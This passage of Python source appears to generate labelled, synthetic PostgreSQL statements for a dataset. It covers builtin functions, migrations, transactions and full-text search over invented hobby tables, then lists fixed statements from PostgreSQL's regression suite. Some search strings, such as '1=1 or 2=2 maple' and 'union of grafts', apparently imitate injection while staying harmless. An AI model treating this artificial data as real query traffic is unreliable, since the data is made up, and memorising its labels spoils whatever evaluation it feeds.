            "SELECT E'first line\\nsecond line', E'col\\tcol'", "SELECT current_user, current_database(), now() FROM tram_rides WHERE ride_id = %d" % a,
            "SELECT jsonb_build_object('line', %d, 'status', 'open')" % (a % 12), "SELECT inspection->>'inspector' FROM harnesses WHERE harness_id = %d" % b,
            "SELECT jsonb_array_elements('[{\"lap\": %d}, {\"lap\": %d}]')" % (a, b), "SELECT string_agg(dish, '; ' ORDER BY dish) FROM feast_menu WHERE event_id = %d" % (a % 90),
            "SELECT reverse('%s'), repeat('-', %d)" % (w, a % 20 + 1), "SELECT encode(sha256('%s'::bytea), 'hex')" % w, "SELECT nullif(trim(lead_name), '') FROM ghost_bookings WHERE booking_id = %d" % a,
            "SELECT left('%s', 3), right('%s', 2)" % (w, w), "SELECT split_part('%s-%d-%s', '-', 2)" % (w, a, w[::-1]), "SELECT octet_length('%s'), char_length('%s')" % (w, w),
            "SELECT format('%%s rode %%s laps', '%s', %d)" % (w, a % 60), "SELECT concat_ws(', ', genus, species, cultivar) FROM tree_specimens WHERE specimen_id = %d" % b,
            "SELECT regexp_replace(plate_no, '[^0-9]', '', 'g') FROM bmx_riders WHERE rider_id = %d" % a, "SELECT array_to_json(ARRAY[%d, %d, %d])" % (a, b, a + b),
            "SELECT jsonb_set('{\"zone\": 1}', '{zone}', '%d')" % (a % 9), "SELECT quote_ident('%s'), quote_literal('%s')" % (w, w)])

    @add("cx21_builtin_num_time", "complex_builtin_funcs")
    def _(r):
        a, b = r.randint(1, 150), r.randint(1, 150)
        d = rdate(r)
        return r.choice([
            "SELECT round(avg(lap_ms) / 1000.0, 2) FROM bmx_laps WHERE moto_id = %d" % (a * 61), "SELECT greatest(%d, %d, %d), least(%d, %d)" % (a, b, a + b, a, b),
            "SELECT %d %% 9, div(%d, 9), %d::numeric / 9" % (a, a, a), "SELECT trunc(%d.%d, 1), round(%d.%d)" % (a, b, b, a), "SELECT log(%d), ln(%d), exp(1)" % (a + 1, b + 1),
            "SELECT date '%s' + %d" % (d, a), "SELECT extract(isodow FROM date '%s')" % d, "SELECT date_trunc('month', timestamp '%s 14:05')" % d,
            "SELECT justify_days(interval '%d days')" % (a * 3), "SELECT to_char(date '%s', 'FMDay, DD FMMonth YYYY')" % d, "SELECT current_date - date '%s'" % d,
            "SELECT now() + interval '%d hours'" % (a % 48), "SELECT generate_series(0, %d, %d)" % (a, b % 7 + 1), "SELECT make_date(%d, %d, %d)" % (r.randint(2000, 2030), a % 12 + 1, b % 28 + 1),
            "SELECT pg_size_pretty(pg_relation_size('%s'))" % r.choice(T21_TABLES), "SELECT abs(%d - %d), sign(%d - %d)" % (a, b, b, a),
            "SELECT width_bucket(%d, 0, 150, 10)" % a, "SELECT to_timestamp(%d)" % r.randint(1500000000, 1900000000), "SELECT age(timestamp '%s 09:00', timestamp '%s')" % (d, rdate(r, 2000, 2015)),
            "SELECT random() > 0.%d" % (a % 9 + 1), "SELECT cbrt(%d), sqrt(%d)" % (a, b)])

    @add("cx21_comments", "complex_comments_hints")
    def _(r):
        body = r.choice(["SELECT tram_id, fleet_no FROM heritage_trams WHERE in_service", "SELECT count(*) FROM pen_repairs WHERE status = 'awaiting parts'",
                         "SELECT trip_id, launch_site FROM kayak_trips WHERE departs_at::date = current_date", "SELECT line_no, status FROM zip_lines ORDER BY line_no",
                         "SELECT specimen_id, genus FROM tree_specimens WHERE bed_id = %d" % r.randint(1, 80), "SELECT member_id, min(run_s) FROM race_splits GROUP BY member_id",
                         "SELECT permit_no FROM busking_permits WHERE expires_on < current_date + 14", "SELECT booking_id, party_size FROM ghost_bookings WHERE tour_date = current_date",
                         "SELECT vest_no, battery_pct FROM laser_vests WHERE battery_pct < 20", "SELECT order_id FROM engraving_orders WHERE status = 'open' ORDER BY due_on"])
        k = r.randrange(3)
        if k == 0:
            return r.choice(["-- report: trams due for inspection (owner: workshop)\n", "-- nightly: kayak trip manifest\n", "-- dashboard: open repairs\n", "-- %s\n" % rword(r, 7),
                             "-- ToolJet query: lapidary queue\n", "-- Budibase: weekly splits digest\n", "-- windmill flow f/engraving/due_soon\n"]) + body
        if k == 1:
            return body + " /*application:%s,controller:%s,action:%s*/" % (r.choice(["TramMuseum", "PenClinic", "ZipPark", "GhostWalks"]), rword(r, 6), r.choice(["index", "show", "export"]))
        return body + r.choice([" -- keep: used by the Monday report", " -- it's intentional", " /* v3 */", " -- TODO: page this", " -- select only open ones", " /* don't cache */"])

    @add("cx21_cte_window", "complex_cte_window")
    def _(r):
        d = rdate(r)
        n = r.randint(2, 15)
        return r.choice([
            "WITH weekly AS (SELECT date_trunc('week', run_on) AS w, count(*) AS rides FROM tram_rides WHERE run_on >= '%s' GROUP BY 1) SELECT w, rides, rides - lag(rides) OVER (ORDER BY w) AS delta FROM weekly ORDER BY w" % d,
            "SELECT member_id, race_id, run_s, rank() OVER (PARTITION BY race_id ORDER BY run_s) AS pos FROM race_splits WHERE race_id = %d" % r.randint(1, 300),
            "SELECT rider_id, lap_ms, avg(lap_ms) OVER (PARTITION BY rider_id ORDER BY moto_id ROWS BETWEEN %d PRECEDING AND CURRENT ROW) AS rolling FROM bmx_laps WHERE moto_id > %d" % (n, r.randint(1, 9000)),
            "SELECT callsign, pts, dense_rank() OVER (ORDER BY pts DESC) AS place FROM (SELECT callsign, sum(points) AS pts FROM game_scores WHERE played_on >= '%s' GROUP BY callsign) s LIMIT %d" % (d, n * 3),
            "WITH recent AS (SELECT * FROM sightings WHERE tour_id = %d ORDER BY sighting_id DESC LIMIT %d) SELECT location, description FROM recent" % (r.randint(1, 900), n)])

    @add("cx21_query_builder", "complex_query_builder")
    def _(r):
        return r.choice([
            "SELECT stone_id, species, carat FROM gemstones WHERE 1=1 AND species = '%s' AND carat >= %d ORDER BY carat DESC LIMIT 20" % (r.choice(["agate", "garnet", "opal", "topaz"]), r.randint(1, 9)),
            "SELECT booking_id FROM ghost_bookings WHERE route_id = %d OR route_id = %d OR (route_id IS NULL AND tour_date > current_date)" % (r.randint(1, 9), r.randint(10, 19)),
            "SELECT walk_id, title FROM guided_walks WHERE 1=1 AND guide = '%s' ORDER BY starts_at LIMIT %d" % (r.choice(PEOPLE).replace("'", "''"), r.choice([10, 25])),
            "SELECT judoka_id, name FROM judoka WHERE 1=1 AND belt IN ('%s', '%s') AND club_id = %d" % (r.choice(["yellow", "orange"]), r.choice(["green", "blue"]), r.randint(1, 70)),
            "SELECT venue_id, name FROM haunted_venues WHERE town = '%s' OR town = '%s' ORDER BY name" % tuple(r.sample(TOWNS, 2))])

    @add("cx21_migration_history", "complex_migration_script")
    def _(r):
        h1, h2 = "%012x" % r.getrandbits(48), "%012x" % r.getrandbits(48)
        return r.choice(["UPDATE alembic_version SET version_num='%s' WHERE alembic_version.version_num = '%s'" % (h1, h2),
                         "INSERT INTO schema_migrations (version) VALUES ('2026%02d%02d%06d')" % (r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959)),
                         "INSERT INTO \"directus_migrations\" (\"version\", \"name\") VALUES ('%s', 'Add %s')" % ("%s%s" % (rword(r, 1, upper=True), r.randint(10, 99)), rword(r, 6).capitalize()),
                         "INSERT INTO databasechangelog (id, author, filename, dateexecuted, orderexecuted, exectype, md5sum) VALUES ('%d', 'tram', 'db/changelog-%d.xml', now(), %d, 'EXECUTED', '8:%s')"
                         % (r.randint(1, 999), r.randint(1, 40), r.randint(1, 900), "%032x" % r.getrandbits(128))])

    @add("cx21_migration_script", "complex_migration_script")
    def _(r):
        n = r.randint(1, 99)
        d = rdate(r)
        return r.choice([
            "BEGIN;\n-- migration %s\nALTER TABLE heritage_trams ADD COLUMN last_mot_%d date;\nUPDATE heritage_trams SET last_mot_%d = current_date WHERE in_service;\nCOMMIT;" % (d, n, n),
            "BEGIN;\n-- %s grit sizes lookup\nCREATE TABLE grit_sizes_%d (id serial PRIMARY KEY, grit int NOT NULL);\nINSERT INTO grit_sizes_%d (grit) VALUES (220), (600), (1200), (3000);\nCOMMIT;" % (d, n, n),
            "BEGIN;\n-- migration %d: rebuild lap index\nDROP INDEX IF EXISTS ix_laps_moto_%d;\nCREATE INDEX ix_laps_moto_%d ON bmx_laps (moto_id, lap_ms);\nCOMMIT;" % (n, n, n),
            "BEGIN;\n-- %s: split permit fee\nALTER TABLE busking_permits ADD COLUMN fee_pence_%d integer DEFAULT 0;\nALTER TABLE busking_permits ALTER COLUMN performer SET NOT NULL;\nCOMMIT;" % (d, n)])

    @add("cx21_union_report", "complex_union_report")
    def _(r):
        n = r.randint(1, 120)
        return r.choice([
            "SELECT 'open' AS state, count(*) FROM pen_repairs WHERE returned_on IS NULL AND bench_id = %d UNION ALL SELECT 'returned', count(*) FROM pen_repairs WHERE returned_on IS NOT NULL AND bench_id = %d" % (n, n),
            "SELECT id, email FROM tri_members WHERE region = '%s' UNION SELECT id, email FROM tri_prospects WHERE region = '%s'" % ((r.choice(["North East", "Wessex", "Yorkshire"]),) * 2),
            "SELECT 'red' AS team, sum(points) FROM game_scores WHERE game_id = %d AND team = 'red' UNION ALL SELECT 'blue', sum(points) FROM game_scores WHERE game_id = %d AND team = 'blue'" % (n * 37, n * 37)])

    @add("cx21_batch_insert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        return r.choice([
            "INSERT INTO bottled_inks (sku, maker, colour_name) VALUES %s" % ", ".join("('%s', '%s', '%s')" % (rword(r, 6, upper=True), r.choice(["Diamine", "Iroshizuku", "Pelikan", "Herbin"]), q(r.choice(POOLS["input_plain"] + PEOPLE))[1:-1]) for _ in range(k)),
            "INSERT INTO bmx_laps (rider_id, moto_id, gate_ms, lap_ms) VALUES %s" % ", ".join("(%d, %d, %d, %d)" % (r.randint(1, 500), r.randint(1, 9000), r.randint(300, 900), r.randint(30000, 48000)) for _ in range(k)),
            "INSERT INTO sightings (tour_id, location, description, reported_by) VALUES %s" % ", ".join("(%d, '%s', '%s', '%s')" % (r.randint(1, 900), r.choice(["cellar", "stairs", "nave", "yard"]), q(r.choice(SENTS)[:60])[1:-1], q(r.choice(PEOPLE))[1:-1]) for _ in range(k))])

    @add("cx21_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(T21_TABLES)
        return r.choice(["SET LOCAL idle_in_transaction_session_timeout = '%ds'" % r.randint(10, 300), "SELECT has_column_privilege('app', '%s', 'id', 'SELECT')" % t,
                         "SELECT pg_size_pretty(pg_indexes_size('%s'))" % t, "VACUUM (VERBOSE, ANALYZE) %s" % t, "ANALYZE VERBOSE %s" % t, "SET lock_timeout = '%dms'" % r.randint(100, 5000),
                         "SELECT pg_terminate_backend(%d)" % r.randint(100, 99999), "SHOW maintenance_work_mem", "SELECT count(*) FROM pg_locks WHERE NOT granted",
                         "REINDEX TABLE %s" % t, "CLUSTER %s USING %s_pkey" % (t, t), "NOTIFY %s_changed" % t, "LISTEN %s_%d" % (t, r.randint(1, 99))])

    @add("cx21_transactions", "complex_transactions")
    def _(r):
        n = r.randint(1, 999)
        return r.choice(["SAVEPOINT before_%s_%d" % (rword(r, 4), n), "RELEASE SAVEPOINT before_%s_%d" % (rword(r, 4), n), "ROLLBACK TO SAVEPOINT sp21_%d" % n,
                         "START TRANSACTION ISOLATION LEVEL %s, %s" % (r.choice(["SERIALIZABLE", "REPEATABLE READ"]), r.choice(["READ ONLY", "READ WRITE"])),
                         "SET TRANSACTION ISOLATION LEVEL %s" % r.choice(["READ COMMITTED", "REPEATABLE READ", "SERIALIZABLE"]), "PREPARE TRANSACTION 'tx21_%d'" % n,
                         "COMMIT PREPARED 'tx21_%d'" % n, "ROLLBACK PREPARED 'tx21_%d'" % n, "SELECT pg_advisory_xact_lock(%d, %d)" % (r.randint(1, 99), n), "COMMIT AND NO CHAIN",
                         "BEGIN READ ONLY", "SELECT pg_try_advisory_lock(%d)" % (n * 31)])

    @add("cx21_copy", "complex_copy_stdin")
    def _(r):
        d = rdate(r)
        return r.choice([
            "COPY (SELECT permit_no, performer, expires_on FROM busking_permits WHERE expires_on >= '%s') TO STDOUT WITH (FORMAT csv, HEADER)" % d,
            "COPY bmx_laps (rider_id, moto_id, gate_ms, lap_ms) FROM STDIN WITH (FORMAT csv)", "COPY (SELECT lap_ms FROM bmx_laps WHERE moto_id = %d) TO STDOUT" % r.randint(1, 9000),
            "COPY tree_measurements FROM STDIN WITH (FORMAT text, DELIMITER '|', NULL '-')", "COPY (SELECT * FROM race_splits WHERE race_id = %d) TO STDOUT WITH (FORMAT binary)" % r.randint(1, 300)])

    @add("cx21_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "COMMENT ON TABLE heritage_trams IS 'Fleet list, rev %d'" % n, "ALTER TABLE bmx_laps SET (fillfactor = %d)" % r.choice([70, 80, 90]),
            "CREATE TYPE belt_colour_%d AS ENUM ('white', 'yellow', 'orange', 'green', 'blue', 'brown', 'black')" % n, "ALTER TABLE gemstones ADD COLUMN IF NOT EXISTS treatment_%d text" % n,
            "CREATE INDEX IF NOT EXISTS ix_sightings_tour_%d ON sightings (tour_id, reported_at)" % n, "ALTER TABLE zip_lines ALTER COLUMN max_weight_kg SET DEFAULT %d" % r.randint(90, 130),
            "DROP TABLE IF EXISTS tmp_kayak_import_%d" % n])

    @add("cx21_introspection", "complex_orm_introspection")
    def _(r):
        return r.choice([
            "SELECT column_name, data_type, is_nullable FROM information_schema.columns WHERE table_schema = 'public' AND table_name = '%s' ORDER BY ordinal_position" % r.choice(T21_TABLES),
            "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = '%s'" % r.choice(T21_TABLES), "SELECT t.oid, t.typname FROM pg_type t WHERE t.typname = ANY ('{citext,hstore,ltree}')",
            "SHOW search_path", "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = '%s'::regclass" % r.choice(T21_TABLES),
            "SET application_name = '%s-%d'" % (r.choice(["budibase", "tooljet", "directus", "windmill"]), r.randint(1, 9))])

    @add("cx21_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["UPDATE gear_loans SET returned_at = $1, damage = $2 WHERE loan_id = $3", "INSERT INTO noise_complaints (pitch_id, reporter_email, detail) VALUES ($1, $2, $3) RETURNING complaint_id",
                         "SELECT staff_id FROM zip_staff WHERE username = $1 AND password = crypt($2, password)", "DELETE FROM mat_bookings WHERE booking_id = $1 AND club_id = $2"])

    @add("cx21_plpgsql", "complex_plpgsql_body")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "CREATE OR REPLACE FUNCTION stamp_updated_%d() RETURNS trigger AS $$\nBEGIN\n  NEW.updated_at := now(); -- audit\n  RETURN NEW;\nEND;\n$$ LANGUAGE plpgsql" % n,
            "CREATE OR REPLACE FUNCTION lap_seconds_%d(ms int) RETURNS numeric LANGUAGE sql IMMUTABLE AS $f$ SELECT round(ms / 1000.0, 3) $f$" % n,
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'launch_kind_%d') THEN CREATE TYPE launch_kind_%d AS ENUM ('shout', 'exercise', 'standby'); END IF; END $$" % (n, n)])

    @add("cx21_search", "complex_search_complex")
    def _(r):
        return "SELECT id, ts_rank(search_vector, query) AS rank FROM curator_notes, websearch_to_tsquery('english', '%s') query WHERE search_vector @@ query ORDER BY rank DESC LIMIT 20" % r.choice(
            ["honey fungus -oak", "\"autumn colour\" maple", "drop leaves or bark", "select specimens", "union of grafts", "1=1 or 2=2 maple", "o''brien beech", "cedar -\"blue atlas\""])
    return G


# ---------------------------------------------------------------- regression-test statements
# Statements as PostgreSQL's regression suite writes them (src/test/regress/sql/<file>.sql), each with the
# comment lines that precede it in the file where it has them, as dev.jsonl's pg_regress rows come.
REGRESS_FIXED = [
    ("strings", "--\n-- STRINGS\n-- Test various data entry syntaxes.\n--\n\n-- SQL92 string continuation syntax\n-- E021-03 character string literals\nSELECT 'first line'\n' - next line'\n\t' - third line'\n\tAS \"Three lines to one\""),
    ("strings", "-- Unicode escapes\nSELECT U&'d\\0061t\\+000061' AS U&\"d\\0061t\\+000061\""),
    ("strings", "SELECT U&'d!0061t\\+000061' UESCAPE '!' AS U&\"d*0061t\\+000061\" UESCAPE '*'"),
    ("strings", "SELECT CAST(name 'namefield' AS text) AS \"text(name)\""),
    ("strings", "-- since this is an explicit cast, it should truncate w/o error:\nSELECT CAST(f1 AS char(10)) AS \"char(text)\" FROM TEXT_TBL"),
    ("strings", "SELECT CAST(name 'namefield' AS varchar) AS \"varchar(name)\""),
    ("strings", "-- E021-09 trim function\nSELECT TRIM(BOTH FROM '  bunch o blanks  ') = 'bunch o blanks' AS \"bunch o blanks\""),
    ("strings", "SELECT TRIM(BOTH 'x' FROM 'xxxxxsome Xsxxxxx') = 'some Xs' AS \"some Xs\""),
    ("strings", "SELECT SUBSTRING('1234567890' FROM 4 FOR 3) = '456' AS \"456\""),
    ("strings", "-- T581 regular expression substring (with SQL99's bizarre regexp syntax)\nSELECT SUBSTRING('abcdefg' FROM 'a#\"(b_d)#\"%' FOR '#') AS \"bcd\""),
    ("strings", "-- Null inputs should return NULL\nSELECT SUBSTRING('abcdefg' FROM '(b|c)' FOR NULL) IS NULL AS \"True\""),
    ("strings", "-- With a parenthesized subexpression, return only what matches the subexpr\nSELECT SUBSTRING('abcdefg' FROM 'b(.*)f') AS \"cde\""),
    ("strings", "SELECT regexp_replace('AAA aaa', 'A+', 'Z', 'gi')"),
    ("strings", "-- return all matches from regexp\nSELECT regexp_matches('foobarbequebaz', $re$(bar)(beque)$re$)"),
    ("strings", "-- global option - more than one match\nSELECT regexp_matches('foobarbequebazilbarfbonk', $re$(b[^b]+)(b[^b]+)$re$, 'g')"),
    ("strings", "-- optional capture group did not match, null entry in array\nSELECT regexp_matches('foobarbequebaz', $re$(bar)(.+)?(beque)$re$)"),
    ("strings", "-- split string on regexp\nSELECT foo, length(foo) FROM regexp_split_to_table('the quick brown fox jumped over the lazy dog', $re$\\s+$re$) AS foo"),
    ("strings", "SELECT regexp_split_to_array('thE QUick bROWn FOx jUMPed ovEr THE lazy dOG', 'e', 'i')"),
    ("strings", "-- some corner cases\nSELECT regexp_split_to_array('123456','1')"),
    ("strings", "-- E021-11 position expression\nSELECT POSITION('4' IN '1234567890') = '4' AS \"4\""),
    ("strings", "-- T312 character overlay function\nSELECT OVERLAY('abcdef' PLACING '45' FROM 4) AS \"abc45f\""),
    ("strings", "SELECT OVERLAY('babosa' PLACING 'ubb' FROM 2 FOR 4) AS \"bubba\""),
    ("strings", "SELECT 'hawkeye' NOT LIKE 'h%eye' AS \"false\""),
    ("strings", "SELECT 'indio' LIKE 'in__o' AS \"true\""),
    ("strings", "-- escape character\n-- E061-05 like predicate with escape clause\nSELECT 'h%' LIKE 'h#%' ESCAPE '#' AS \"true\""),
    ("strings", "SELECT 'i_dio' NOT LIKE 'i$_nd_o' ESCAPE '$' AS \"true\""),
    ("strings", "-- escape character same as pattern character\nSELECT 'maca' LIKE 'm%aca' ESCAPE '%' AS \"true\""),
    ("strings", "SELECT 'be_r' NOT LIKE '__e__r' ESCAPE '_' AS \"true\""),
    ("strings", "SELECT 'Hawkeye' NOT ILIKE 'h%' AS \"false\""),
    ("strings", "SELECT char(20) 'characters' || ' and text' AS \"Concat char to unknown type\""),
    ("strings", "SELECT text 'text' || varchar ' and varchar' AS \"Concat text to varchar\""),
    ("strings", "-- If start plus length is > string length, the result is truncated to\n-- string length\nSELECT substr(f1, 99995, 10) from toasttest"),
    ("strings", "insert into toasttest values(decode(repeat('1234567890',10000),'escape'))"),
    ("strings", "--\n-- test strpos\n--\n\nSELECT strpos('abcdef', 'cd') AS \"pos_3\""),
    ("strings", "SELECT replace('yabadabadoo', 'ba', '123') AS \"ya123da123doo\""),
    ("strings", "select split_part('@joeuser@mydatabase@','@',2) AS \"joeuser\""),
    ("strings", "select to_hex(256::bigint*256::bigint*256::bigint*256::bigint - 1) AS \"ffffffff\""),
    ("strings", "select md5('message digest'::bytea) = 'f96b697d7cb7938d525a2f31aaf161d0' AS \"TRUE\""),
    ("strings", "select 'a\\bcd' as f1, 'a\\b''cd' as f2, 'a\\b''''cd' as f3, 'abcd\\'   as f4, 'ab\\''cd' as f5, '\\\\' as f6"),
    ("strings", "SELECT lpad('hi', -5, 'xy')"),
    ("arrays", "--\n-- only the 'e' array is 0-based, the others are 1-based.\n--\n\nINSERT INTO arrtest (a[1:5], b[1:1][1:2][1:2], c, d, f, g)\n   VALUES ('{1,2,3,4,5}', '{{{0,0},{1,2}}}', '{}', '{}', '{}', '{}')"),
    ("arrays", "UPDATE arrtest SET e[0] = '1.1'"),
    ("arrays", "SELECT arrtest.a[1],\n          arrtest.b[1][1][1],\n          arrtest.c[1],\n          arrtest.d[1][1],\n          arrtest.e[0]\n   FROM arrtest"),
    ("arrays", "SELECT array_ndims(a) AS a,array_ndims(b) AS b,array_ndims(c) AS c\n   FROM arrtest"),
    ("arrays", "-- returns nothing\nSELECT *\n   FROM arrtest\n   WHERE a[1] < 5 and\n         c = '{\"foobar\"}'::_name"),
    ("arrays", "UPDATE arrtest\n  SET b[1:1][1:1][1:2] = '{113, 117}',\n      b[1:1][1:2][2:2] = '{142, 147}'\n  WHERE array_dims(b) = '[1:1][1:2][1:2]'"),
    ("arrays", "update arrtest1 set i[-3] = -3, t[-3] = 'minus-three'"),
    ("arrays", "update arrtest1 set i[8:10] = array[18,null,20], t[8:10] = array['p18',null,'p20']"),
    ("arrays", "-- table creation and INSERTs\nCREATE TEMP TABLE arrtest2 (i integer ARRAY[4], f float8[], n numeric[], t text[], d timestamp[])"),
    ("arrays", "-- expressions\nSELECT t.f[1][3][1] AS \"131\", t.f[2][2][1] AS \"221\" FROM (\n  SELECT ARRAY[[[111,112],[121,122],[131,132]],[[211,212],[221,122],[231,232]]] AS f\n) AS t"),
    ("arrays", "SELECT ARRAY(select f2 from arrtest_f order by f2) AS \"ARRAY\""),
    ("arrays", "SELECT array_cat(ARRAY[[3,4],[5,6]], ARRAY[1,2]) AS \"{{3,4},{5,6},{1,2}}\""),
    ("arrays", "SELECT ARRAY[[['hello','world']]] || ARRAY[[['happy','birthday']]] AS \"ARRAY\""),
    ("arrays", "SELECT * FROM array_op_test WHERE i <@ '{38,34,32,89}' ORDER BY seqno"),
    ("arrays", "SELECT * FROM array_op_test WHERE t && '{AAAAAAAA72908,AAAAAAAAAA646}' ORDER BY seqno"),
    ("arrays", "SELECT CAST(ARRAY[[[[[['a','bb','ccc']]]]]] as text[]) as \"{{{{{{a,bb,ccc}}}}}}\""),
    ("arrays", "-- boundary cases\nselect null::int >= all ('{1,2,33}')"),
    ("arrays", "-- cross-datatype\nselect 33.4 = any (array[1,2,3])"),
    ("arrays", "select 33 = all ('{33,null,33}')"),
    ("arrays", "-- test indexes on arrays\ncreate temp table arr_tbl (f1 int[] unique)"),
    ("arrays", "select * from arr_tbl where f1 >= '{1,2,3}' and f1 < '{1,5,3}'"),
    ("arrays", "select 'foo' not like all (array['%a', '%o'])"),
    ("arrays", "select '{ { \",\" } , { 3 } }'::text[]"),
    ("arrays", "select '[0:1]={1.1,2.2}'::float8[]"),
    ("arrays", "INSERT INTO arraggtest (f1, f2, f3) VALUES\n('{3,3,2,4,5,6}','{{white,yellow},{pink,orange}}','{2.1,3.3,1.8,1.7,1.6}')"),
    ("arrays", "-- XXX would like to not have to specify row() construct types here ...\ninsert into comptable\n  values (row(1,'foo'), array[row(2,'bar')::comptype, row(3,'baz')::comptype])"),
    ("arrays", "create or replace function unnest2(anyarray)\nreturns setof anyelement as $$\nselect $1[s1][s2] from generate_subscripts($1,1) g1(s1),\n                   generate_subscripts($1,2) g2(s2);\n$$ language sql immutable"),
    ("arrays", "select array_fill('juhu'::text, array[3,3],array[2,2])"),
    ("arrays", "select string_to_array('1,2,3,4,*,6', ',', '*')"),
    ("arrays", "select array_to_string(array[1,2,3,4,NULL,6], ',', '*')"),
    ("arrays", "select cardinality('[2:4]={5,6,7}'::int[])"),
    ("arrays", "select array_agg(nullif(ten, 4)) from (select ten from tenk1 where unique1 < 15 order by unique1) ss"),
    ("arrays", "select abs(unnest(array[1,2,null,-3]))"),
    ("insert_conflict", "--\n-- Test unique index inference with operator class specifications and\n-- named collations\n--\ncreate unique index op_index_key on insertconflicttest(key, fruit text_pattern_ops)"),
    ("insert_conflict", "create unique index both_index_expr_key on insertconflicttest(key, lower(fruit) collate \"C\" text_pattern_ops)"),
    ("insert_conflict", "explain (costs off) insert into insertconflicttest values(0, 'Crowberry') on conflict (lower(fruit), key, lower(fruit), key) do nothing"),
    ("insert_conflict", "-- Okay, but only accepts the single index where both opclass and collation are\n-- specified\nexplain (costs off) insert into insertconflicttest values(0, 'Crowberry') on conflict (fruit collate \"C\" text_pattern_ops, key) do nothing"),
    ("insert_conflict", "-- Should display qual actually attributable to internal sequential scan:\nexplain (costs off) insert into insertconflicttest values (0, 'Bilberry') on conflict (key) do update set fruit = excluded.fruit where insertconflicttest.fruit != 'Cawesh'"),
    ("insert_conflict", "explain (costs off, format json) insert into insertconflicttest values (0, 'Bilberry') on conflict (key) do update set fruit = excluded.fruit where insertconflicttest.fruit != 'Lime' returning *"),
    ("insert_conflict", "-- Succeed, since multi-assignment does not involve subquery:\ninsert into insertconflicttest\nvalues (1, 'Apple'), (2, 'Orange')\non conflict (key) do update set (fruit, key) = (excluded.fruit, excluded.key)"),
    ("insert_conflict", "insert into insertconflicttest values (6, 'Passionfruit') on conflict (lower(fruit)) do update set fruit = excluded.fruit"),
    ("insert_conflict", "insert into insertconflicttest AS ict values (6, 'Passionfruit') on conflict (key) do update set fruit = ict.fruit"),
    ("insert_conflict", "insert into insertconflicttest values (11, 'Cherry') on conflict (key, lower(fruit)) do update set fruit = excluded.fruit"),
    ("insert_conflict", "--\n-- Partial index tests, no inference predicate specified\n--\ncreate unique index part_comp_key_index on insertconflicttest(key, fruit) where key < 5"),
    ("insert_conflict", "insert into insertconflicttest values (21, 'Pomegranate') on conflict (lower(fruit), lower(fruit)) do update set fruit = excluded.fruit"),
    ("insert_conflict", "-- Should not infer \"tricky_expr_comp_key_index\" index:\nexplain (costs off) insert into insertconflicttest values (26, 'Fig') on conflict (lower(fruit), key, lower(fruit), key) do update set fruit = excluded.fruit"),
    ("insert_conflict", "insert into insertconflicttest values (23, 'Blackberry') on conflict (key) where fruit like '%berry' and fruit = 'inconsequential' do nothing"),
    ("insert_conflict", "-- Assign:\ninsert into insertconflicttest as i values (23, 'Avocado') on conflict (key) do update set fruit = excluded.*::text\n  returning *"),
    ("insert_conflict", "create unique index insertconflicti2 on insertconflict(b)\n  where coalesce(a, 1) > 0"),
    ("insert_conflict", "insert into insertconflict values (1, 2)\non conflict (b) where coalesce(a, 1) > 0 do nothing"),
    ("insert_conflict", "create view insertconflictv as\n  select * from insertconflict with cascaded check option"),
    ("window", "SELECT depname, empno, salary, rank() OVER (PARTITION BY depname ORDER BY salary) FROM empsalary"),
    ("window", "-- with GROUP BY\nSELECT four, ten, SUM(SUM(four)) OVER (PARTITION BY four), AVG(ten) FROM tenk1\nGROUP BY four, ten ORDER BY four, ten"),
    ("window", "SELECT depname, empno, salary, rank() OVER w FROM empsalary WINDOW w AS (PARTITION BY depname ORDER BY salary) ORDER BY rank() OVER w"),
    ("window", "-- no window operation\nSELECT four FROM tenk1 WHERE FALSE WINDOW w AS (PARTITION BY ten)"),
    ("window", "SELECT percent_rank() OVER (PARTITION BY four ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10"),
    ("window", "SELECT ntile(NULL) OVER (ORDER BY ten, four), ten, four FROM tenk1 LIMIT 2"),
    ("window", "SELECT lag(ten, four, 0) OVER (PARTITION BY four ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10"),
    ("window", "SELECT lead(ten * 2, 1, -1) OVER (PARTITION BY four ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10"),
    ("window", "-- last_value returns the last row of the frame, which is CURRENT ROW in ORDER BY window.\nSELECT last_value(four) OVER (ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10"),
    ("window", "SELECT nth_value(ten, four + 1) OVER (PARTITION BY four), ten, four\n\tFROM (SELECT * FROM tenk1 WHERE unique2 < 10 ORDER BY four, ten)s"),
    ("window", "SELECT (count(*) OVER (PARTITION BY four ORDER BY ten) +\n  sum(hundred) OVER (PARTITION BY four ORDER BY ten))::varchar AS cntsum\n  FROM tenk1 WHERE unique2 < 10"),
    ("window", "-- identical windows with different names\nSELECT sum(salary) OVER w1, count(*) OVER w2\nFROM empsalary WINDOW w1 AS (ORDER BY salary), w2 AS (ORDER BY salary)"),
    ("window", "-- window function over ungrouped agg over empty row set (bug before 9.1)\nSELECT SUM(COUNT(f1)) OVER () FROM int4_tbl WHERE f1=42"),
    ("window", "SELECT four, ten/4 as two,\n\tsum(ten/4) over (partition by four order by ten/4 rows between unbounded preceding and current row),\n\tlast_value(ten/4) over (partition by four order by ten/4 rows between unbounded preceding and current row)\nFROM (select distinct ten, four from tenk1) ss"),
    ("window", "SELECT sum(unique1) over (rows between 2 preceding and 2 following exclude group),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10"),
    ("window", "SELECT first_value(unique1) over (ORDER BY four rows between current row and 2 following exclude ties),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10"),
    ("window", "SELECT sum(unique1) over (w range between unbounded preceding and current row exclude group),\n\tunique1, four\nFROM tenk1 WHERE unique1 < 10 WINDOW w AS (order by four)"),
    ("window", "SELECT sum(unique1) over\n\t(order by unique1\n\t rows (SELECT unique1 FROM tenk1 ORDER BY unique1 LIMIT 1) + 1 PRECEDING),\n\tunique1\nFROM tenk1 WHERE unique1 < 10"),
